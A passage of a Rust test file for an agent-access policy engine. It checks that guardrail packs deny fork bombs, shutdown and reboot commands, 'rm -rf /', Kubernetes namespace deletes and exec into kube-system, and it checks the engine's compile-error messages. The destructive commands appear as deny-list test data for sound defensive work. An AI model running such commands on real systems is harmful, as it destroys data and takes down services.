        assert_denied_by(on(attack), "ssh-guardrails/no-fork-bomb");
    }
    assert_allowed(on("f() { echo hi; }; f"));

    for attack in [
        "shutdown -h now",
        "sudo reboot",
        "/sbin/poweroff",
        "halt",
        "systemctl reboot",
        "sudo systemctl --force poweroff",
        "init 0",
    ] {
        assert_denied_by(on(attack), "ssh-guardrails/no-shutdown");
    }
    for benign in [
        "systemctl restart nginx",
        "cat /var/log/shutdown.log",
        "grep reboot-required /var/run",
        "grep reboot /var/log/syslog",
        "init-db.sh",
    ] {
        assert_allowed(on(benign));
    }
}

#[test]
fn kube_pack_blocks_namespace_deletes_system_exec_and_cluster_critical_deletes() {
    let p = pack_policy();
    let on = |op: KubeOperation| decide(&p, &agent(), "cluster", &Operation::Kube(op));
    assert_denied_by(
        on(kube("delete", "namespaces", None, Some("prod"))),
        "kube-guardrails/no-namespace-delete",
    );
    assert_allowed(on(kube("delete", "pods", Some("prod"), Some("x"))));
    assert_allowed(on(kube("get", "namespaces", None, Some("prod"))));

    for sub in ["exec", "attach", "portforward"] {
        let mut op = kube("create", "pods", Some("kube-system"), Some("etcd-0"));
        op.subresource = Some(sub.into());
        assert_denied_by(on(op.clone()), "kube-guardrails/no-exec-kube-system");
        op.namespace = Some("default".into());
        assert_allowed(on(op));
    }
    let mut logs = kube("get", "pods", Some("kube-system"), Some("etcd-0"));
    logs.subresource = Some("log".into());
    assert_allowed(on(logs));

    for resource in ["nodes", "customresourcedefinitions", "clusterrolebindings"] {
        assert_denied_by(
            on(kube("delete", resource, None, Some("x"))),
            "kube-guardrails/no-cluster-critical-delete",
        );
        assert_allowed(on(kube("get", resource, None, Some("x"))));
    }
    assert_allowed(on(kube(
        "delete",
        "rolebindings",
        Some("default"),
        Some("x"),
    )));

    // Typed as a command into a shell.
    let shell = |line: &str| decide(&p, &agent(), "prod-web", &cmd(line));
    for attack in [
        "kubectl delete namespace prod",
        "kubectl delete ns prod",
        "kubectl --context prod delete namespaces a b",
        "kubectl delete --wait=false ns/prod",
    ] {
        assert_denied_by(shell(attack), "kube-guardrails/no-kubectl-delete-namespace");
    }
    for benign in [
        "kubectl delete pod x",
        "kubectl delete pod x -n ns",
        "kubectl get namespaces",
        "kubectl delete pod nsq-0",
    ] {
        assert_allowed(shell(benign));
    }
}

#[test]
fn pack_rules_can_be_replaced_or_switched_off_by_name() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}{ALL_PACKS}
[[rules]]
name = "sql-guardrails/opaque-sql"
action = "review"
approvers = ["dba"]
message = "a DBA must look at this statement"
[rules.sql]
kinds = ["opaque"]

[[rules]]
name = "ssh-guardrails/no-shutdown"
enabled = false
"#
    ));
    let opaque = Operation::Sql(sql(SqlKind::Opaque, "DO $$ $$"));
    assert!(matches!(
        decide(&p, &agent(), "prod-db", &opaque),
        Decision::Review { rule, .. } if rule == "sql-guardrails/opaque-sql"
    ));
    assert!(
        p.rule("sql-guardrails/opaque-sql")
            .unwrap()
            .origin
            .starts_with("airlock.toml:")
    );
    assert_allowed(decide(&p, &agent(), "prod-web", &cmd("sudo reboot")));
    assert!(p.rule("ssh-guardrails/no-shutdown").is_none());
    // The rest of the pack still applies.
    assert_denied_by(
        decide(&p, &agent(), "prod-web", &cmd("rm -rf /")),
        "ssh-guardrails/no-rm-rf-root",
    );

    let err = compile_error(&format!(
        "{ALL_PACKS}\n[[rules]]\nname = \"sql-guardrails/no-such\"\nenabled = false\n"
    ));
    assert!(
        err.contains("pack \"sql-guardrails\" has no rule named"),
        "{err}"
    );
    assert!(err.contains("sql-guardrails/no-drop"), "{err}");
    let err = compile_error(
        "\n[[rules]]\nname = \"kube-guardrails/no-exec-kube-system\"\nenabled = false\n",
    );
    assert!(err.contains("not enabled"), "{err}");
}

// ---------------------------------------------------------------- compile errors

#[track_caller]
fn assert_error_at(text: &str, needle: &str, expected: &str) {
    let err = compile_error(text);
    let at = position_of(text, needle);
    assert!(
        err.starts_with(&format!("{at}:")),
        "expected position {at} in: {err}"
    );
    assert!(err.contains(expected), "expected {expected:?} in: {err}");
}

#[test]
fn compile_errors_name_the_position_and_the_fix() {
    // Rule and grant errors point at the entry's `[[rules]]`/`[[grants]]`
    // header (marked `# here` when there are several); serde errors at the value.
    assert_error_at(
        "\n[[rules]]\naction = \"deny\"\nmessage = \"m\"\n",
        "[[rules]]",
        "a rule has no name",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"allow\"\n\n[[rules]] # here\nname = \"a\"\naction = \"deny\"\nmessage = \"m\"\n",
        "[[rules]] # here",
        "already a rule named \"a\"",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"alow\"\n",
        "\"alow\"",
        "unknown variant `alow`",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\nmessage = \"m\"\n",
        "[[rules]]",
        "rule \"a\": no action",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"review\"\nmessage = \"m\"\n",
        "[[rules]]",
        "review rules need approvers",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"deny\"\n",
        "[[rules]]",
        "deny rules need a message",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"deny\"\nmessage = \"m\"\napprovers = [\"x\"]\n",
        "[[rules]]",
        "approvers only applies to review rules",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"review\"\napprovers = \"x\"\nmessage = \"m\"\napprovals_required = 0\n",
        "[[rules]]",
        "approvals_required must be at least 1",
    );
    // Beyond a year: refused before the time arithmetic could overflow; a
    // year is accepted.
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"review\"\napprovers = \"x\"\nmessage = \"m\"\ntimeout_secs = 1000000000000\n",
        "[[rules]]",
        "timeout_secs must be at most 31536000 (one year)",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"review\"\napprovers = \"x\"\nmessage = \"m\"\ngrant_minutes = 10000000000\n",
        "[[rules]]",
        "grant_minutes must be at most 525600 (one year)",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"a\"\naction = \"allow\"\n\n[[rules]] # here\nname = \"bad-re\"\naction = \"deny\"\nmessage = \"m\"\n[rules.command]\nline = '(unclosed'\n",
        "[[rules]] # here",
        "rule \"bad-re\": command.line: invalid regular expression \"(unclosed\"",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"bad-glob\"\naction = \"deny\"\nmessage = \"m\"\n[rules.sql]\ntables = ['orders[']\n",
        "[[rules]]",
        "sql.tables: invalid glob pattern \"orders[\"",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"two\"\naction = \"deny\"\nmessage = \"m\"\n[rules.sql]\nkinds = \"drop\"\n[rules.command]\nline = \"x\"\n",
        "[[rules]]",
        "one kind of operation",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"k\"\naction = \"deny\"\nmessage = \"m\"\n[rules.sql]\nkinds = [\"select\", \"dleete\"]\n",
        "\"dleete\"",
        "unknown variant `dleete`",
    );
    assert_error_at(
        "\n[[rules]]\nname = \"t\"\naction = \"deny\"\nmessage = \"m\"\ntargets = [\"prod-dv\"]\n",
        "[[rules]]",
        "no target named \"prod-dv\" (the targets are: api, cluster, prod-db, prod-web, staging-db)",
    );
    assert_error_at(
        "\n[policy]\npacks = [\"sql-guardrails\", \"sql-guardrail\"]\n",
        "\"sql-guardrail\"",
        "no rule pack named \"sql-guardrail\"; the packs are: sql-guardrails, ssh-guardrails, kube-guardrails",
    );
    assert_error_at(
        "\n[[grants]]\ngroups = [\"a\"]\ntargets = [\"prod-dbb\"]\n",
        "[[grants]]",
        "grant: targets: there is no target named \"prod-dbb\"",
    );
    assert_error_at(
        "\n[[grants]]\ngroups = [\"a\"]\ntargets = [\"prod-db\"]\n\n[[grants]] # here\ngroups = [\"a\"]\ntargets = [\"qa-*\"]\n",
        "[[grants]] # here",
        "the pattern \"qa-*\" matches no target",
    );
    assert_error_at(
        "\n[[grants]]\ntargets = [\"prod-db\"]\n",
        "[[grants]]",
        "it names nobody",
    );
    assert_error_at(
        "\n[[grants]]\ngroups = [\"a\"]\ntargets = [\"prod-db\"]\naccess = \"most\"\n",
        "\"most\"",
        "unknown variant `most`",
    );
}

// ---------------------------------------------------------------- the guide

#[test]
fn every_example_in_the_policy_guide_compiles() {
    let guide = include_str!("../../../../docs/policy.md");
    let targets =
        "\n[targets.analytics]\nprotocol = \"postgres\"\n[targets.web-1]\nprotocol = \"ssh\"\n";
    let mut examples = 0;
    for block in guide.split("```toml\n").skip(1) {
        let block = block.split("```").next().unwrap();
        // Pack overrides need their pack; examples that set [policy] say so themselves.
        let packs = if block.contains("[policy]") {
            ""
        } else {
            ALL_PACKS
        };
        if let Err(e) = try_policy(&format!("{targets}{packs}{block}")) {
            panic!("example does not compile: {e}\n{block}");
        }
        examples += 1;
    }
    assert!(examples >= 15, "found only {examples} examples");
}
